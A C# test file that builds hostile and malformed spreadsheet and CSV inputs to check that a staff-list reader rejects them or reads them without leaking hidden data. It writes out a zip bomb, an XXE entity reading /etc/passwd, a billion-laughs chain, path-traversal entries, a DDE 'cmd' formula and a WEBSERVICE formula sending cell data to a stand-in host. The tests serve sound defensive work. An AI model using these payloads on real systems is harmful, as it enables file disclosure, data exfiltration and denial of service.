using System.Globalization;
using System.IO.Compression;
using System.Text;
using Workforce.Findings;
using Workforce.StaffLists;
using Workforce.Tests.Local;
using Workforce.Tests.Storage;

namespace Workforce.Tests.StaffLists;

/// <summary>
/// Files made to do harm, or broken as files come: each ends with the finding named here, or is read with the people named here and nothing
/// of what it hides. They are made here, so that nothing hostile lies in the repository; MutationTests makes tens of thousands more.
/// </summary>
public class NastyFilesTests
{
    const string People =
        "Employee no,Job title,Hours per week,Hourly rate,Start date\n101,Cleaner,20,13.20,01/02/2015\n102,Cleaner,25,13.20,01/02/2016\n";

    const string Secret = "Secretword";

    static readonly object?[][] Rows =
    [
        ["Employee no", "Job title", "Hours per week", "Hourly rate", "Start date"],
        ["101", "Cleaner", 20, 13.20m, new DateOnly(2015, 2, 1)],
        ["102", "Cleaner", 25, 13.20m, new DateOnly(2016, 2, 1)],
    ];

    const string Sheet = "xl/worksheets/sheet1.xml";

    static readonly Dictionary<string, (string Expected, Func<byte[]> Make)> Files = new(StringComparer.Ordinal)
    {
        ["bomb.xlsx"] = ("L_TOO_LARGE",
            () => With(Sheet,
                $"<worksheet><sheetData><row r=\"1\"><c t=\"str\"><v>{new string('0', 12 * 1024 * 1024)}</v></c></row></sheetData></worksheet>")),
        ["bomb-that-lies.xlsx"] = ("L_DAMAGED_FILE",
            () => Understated(With(Sheet,
                $"<worksheet><sheetData>{string.Concat(Enumerable.Repeat("<row><c><v>1</v></c></row>", 50_000))}</sheetData></worksheet>"))),
        ["many-parts.xlsx"] = ("L_TOO_LARGE", () => Package([.. Enumerable.Range(0, 5_001).Select(number => ($"xl/media/{number}", ""))])),
        ["entity.xlsx"] = ("L_DAMAGED_FILE",
            () => With(Sheet,
                "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData><row r=\"1\"><c t=\"str\"><v>&x;</v></c></row></sheetData></worksheet>")),
        ["laughs.xlsx"] = ("L_DAMAGED_FILE",
            () => With("xl/styles.xml",
                "<!DOCTYPE s [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><styleSheet>&c;</styleSheet>")),
        ["climbing-sheet.xlsx"] = ("L_EMPTY_FILE",
            () => With("xl/_rels/workbook.xml.rels",
                "<Relationships><Relationship Id=\"rId1\" Target=\"../../../../../../etc/passwd\"/></Relationships>")),
        ["sheet-elsewhere.xlsx"] = ("L_EMPTY_FILE",
            () => With("xl/_rels/workbook.xml.rels",
                "<Relationships><Relationship Id=\"rId1\" Target=\"http://192.0.2.1/sheet.xml\" TargetMode=\"External\"/></Relationships>")),
        ["climbing-part.xlsx"] = ("2 people", () => With("../../../tmp/" + Secret, Secret)),
        ["deep.xlsx"] = ("L_EMPTY_FILE",
            () => With(Sheet,
                $"<worksheet>{string.Concat(Enumerable.Repeat("<a>", 20_000))}{string.Concat(Enumerable.Repeat("</a>", 20_000))}</worksheet>")),
        ["far-row.xlsx"] = ("L_NO_TABLE",
            () => With(Sheet, "<worksheet><sheetData><row r=\"1048576\"><c r=\"A1048576\"><v>1</v></c></row></sheetData></worksheet>")),
        ["far-column.xlsx"] = ("L_NO_TABLE",
            () => With(Sheet, "<worksheet><sheetData><row r=\"1\"><c r=\"ZZZZZ1\"><v>1</v></c></row></sheetData></worksheet>")),
        ["no-such-string.xlsx"] = ("L_EMPTY_FILE",
            () => With(Sheet, "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>99</v></c></row></sheetData></worksheet>")),
        ["formulas.xlsx"] = ("2 people",
            () => WithRow(
                "<c r=\"A4\" t=\"str\"><f>cmd|'/c calc'!A1</f><v>note</v></c><c r=\"B4\" t=\"str\"><f>WEBSERVICE(\"http://192.0.2.1/\"&amp;A2)</f><v></v></c>")),
        ["link.xlsx"] = ("2 people",
            () => With("xl/externalLinks/externalLink1.xml",
                $"<externalLink><externalBook><sheetDataSet><v>{Secret}</v></sheetDataSet></externalBook></externalLink>")),
        ["hidden-people.xlsx"] = ("2 people",
            () => new XlsxBuilder().Sheet("Staff", Rows).Sheet("Old", [["Sickness record", Secret]], state: "veryHidden").Build()),
        ["comments.xlsx"] = ("2 people",
            () => With("xl/comments1.xml",
                $"<comments><commentList><comment ref=\"A2\"><text><t>{Secret}</t></text></comment></commentList></comments>")),
        ["pivot.xlsx"] = ("2 people",
            () => With("xl/pivotCache/pivotCacheRecords1.xml", $"<pivotCacheRecords><r><s v=\"{Secret}\"/></r></pivotCacheRecords>")),
        ["really-xlsx.csv"] = ("2 people", () => new XlsxBuilder().Sheet("Staff", Rows).Build()),
        ["really-csv.xlsx"] = ("2 people", () => Text(People)),
        ["half.xlsx"] = ("L_DAMAGED_FILE", () => Part(new XlsxBuilder().Sheet("Staff", Rows).Build(), 0.6)),
        ["no-workbook.xlsx"] = ("L_NOT_A_STAFF_LIST", () => Package([("xl/other.xml", "<a/>")])),
        ["ole-rubbish.xls"] = ("L_NOT_A_STAFF_LIST", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. Noise(20_000)]),
        ["encrypted.xlsx"] = ("L_PASSWORD_PROTECTED",
            () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[2_000], .. Encoding.Unicode.GetBytes("EncryptedPackage"),
                .. new byte[500]]),
        ["really-html.csv"] = ("L_NOT_A_STAFF_LIST",
            () => Text($"\n <html><body><table><tr><td>{People}</td></tr></table><script>x</script></body></html>")),
        ["table-alone.xls"] = ("L_NO_TABLE", () => Text("<table><tr><td>Name</td></tr></table>")),
        ["wide.csv"] = ("L_TOO_LARGE", () => Text(string.Join(',', Enumerable.Range(0, 10_000)) + "\n1")),
        ["quotes.csv"] = ("L_TOO_LARGE", () => Text(new string('"', 200_000))),
        ["unclosed-quote.csv"] = ("2 people", () => Text(People.Replace("Cleaner,25", "\"Cleaner,25", StringComparison.Ordinal))),
        ["unclosed-quote-amid.csv"] = ("2 people", () => Text(People.Replace("Cleaner,20", "\"Cleaner,20", StringComparison.Ordinal))),
        ["nuls.csv"] = ("L_NOT_A_STAFF_LIST", () => Text(People.Replace("Cleaner", "Clea\0ner", StringComparison.Ordinal))),
        ["only-nuls.csv"] = ("L_EMPTY_FILE", () => new byte[5_000]),
        ["odd-byte.csv"] = ("2 people", () => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(People), 0x41]),
        ["turned-letters.csv"] = ("2 people", () => Text(People.Replace("Cleaner", "\u202eCleaner\u202c", StringComparison.Ordinal))),
        ["long-cell.csv"] = ("L_TOO_LARGE", () => Text(People + new string('a', 40_000))),
        ["noise"] = ("L_NOT_A_STAFF_LIST", () => Noise(4_000)),
    };

    public static TheoryData<string> Names => [.. Files.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public void Each_ends_as_it_should(string name)
    {
        var (expected, make) = Files[name];

        var raw = StaffListReader.Read(new MemoryStream(make()), name);
        var list = raw.Value is { } cells ? StaffListParser.Parse(cells) : null;

        if (list?.Value is not { } read)
        {
            var refusal = Assert.Single(list?.Findings ?? raw.Findings);
            Assert.Equal((expected, Severity.Blocking), (refusal.Code, refusal.Severity));
            Assert.NotEmpty(refusal.Remedy);
            return;
        }

        Assert.Equal(expected, string.Create(CultureInfo.InvariantCulture, $"{read.Records.Count} people"));
        Assert.Equal(["101", "102"], read.Records.Select(record => record.EmployeeRef));
        Assert.All(read.Records,
            record => Assert.Equal("Cleaner", record.JobTitle?.Where(char.IsAsciiLetter).Aggregate("", (text, letter) => text + letter)));
        using MemoryStream json = new();
        ReadingJson.Write(read, list.Findings, json);
        Assert.DoesNotContain(Secret, Encoding.UTF8.GetString(json.ToArray()), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("bomb.xlsx", 2)]
    [InlineData("entity.xlsx", 2)]
    [InlineData("ole-rubbish.xls", 2)]
    [InlineData("formulas.xlsx", 0)]
    public async Task The_command_says_it_in_a_sentence_and_ends_with_the_status_of_unusable_input(string name, int expected)
    {
        using TemporaryFolder folder = new();
        var file = Path.Combine(folder.Path, name);
        await File.WriteAllBytesAsync(file, Files[name].Make());

        var (status, _, error) = TheProgram.Run("read", file);

        Assert.Equal(expected, status);
        Assert.DoesNotContain("   at ", error, StringComparison.Ordinal);
        Assert.Equal([name], Directory.EnumerateFileSystemEntries(folder.Path).Select(Path.GetFileName));
    }

    static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    static byte[] Part(byte[] whole, double share) => whole[..(int)(whole.Length * share)];

    static byte[] Noise(int length)
    {
        var noise = new byte[length];
        new Random(11).NextBytes(noise);
        return noise;
    }

    /// <summary>A sound workbook of two people with one part put in or replaced.</summary>
    static byte[] With(string path, string content)
    {
        using MemoryStream buffer = new();
        buffer.Write(new XlsxBuilder().Sheet("Staff", Rows).Build());
        using (ZipArchive archive = new(buffer, ZipArchiveMode.Update, leaveOpen: true))
        {
            archive.GetEntry(path)?.Delete();
            XlsxBuilder.Add(archive, path, content);
        }

        return buffer.ToArray();
    }

    static byte[] WithRow(string cells)
    {
        using MemoryStream buffer = new(new XlsxBuilder().Sheet("Staff", Rows).Build());
        using ZipArchive archive = new(buffer, ZipArchiveMode.Read);
        using StreamReader reader = new(archive.GetEntry(Sheet)!.Open());
        return With(Sheet, reader.ReadToEnd().Replace("</sheetData>", $"<row r=\"4\">{cells}</row></sheetData>", StringComparison.Ordinal));
    }

    static byte[] Package(IReadOnlyList<(string Path, string Content)> parts)
    {
        using MemoryStream buffer = new();
        using (ZipArchive archive = new(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (path, content) in parts) XlsxBuilder.Add(archive, path, content);
        }

        return buffer.ToArray();
    }

    /// <summary>The directory says that every part unpacks to 100 bytes.</summary>
    static byte[] Understated(byte[] package)
    {
        const int UncompressedSize = 24;
        for (var at = 0; at < package.Length - 46; at++)
        {
            if (package.AsSpan(at).StartsWith("PK\u0001\u0002"u8)) BitConverter.TryWriteBytes(package.AsSpan(at + UncompressedSize), 100);
        }

        return package;
    }
}
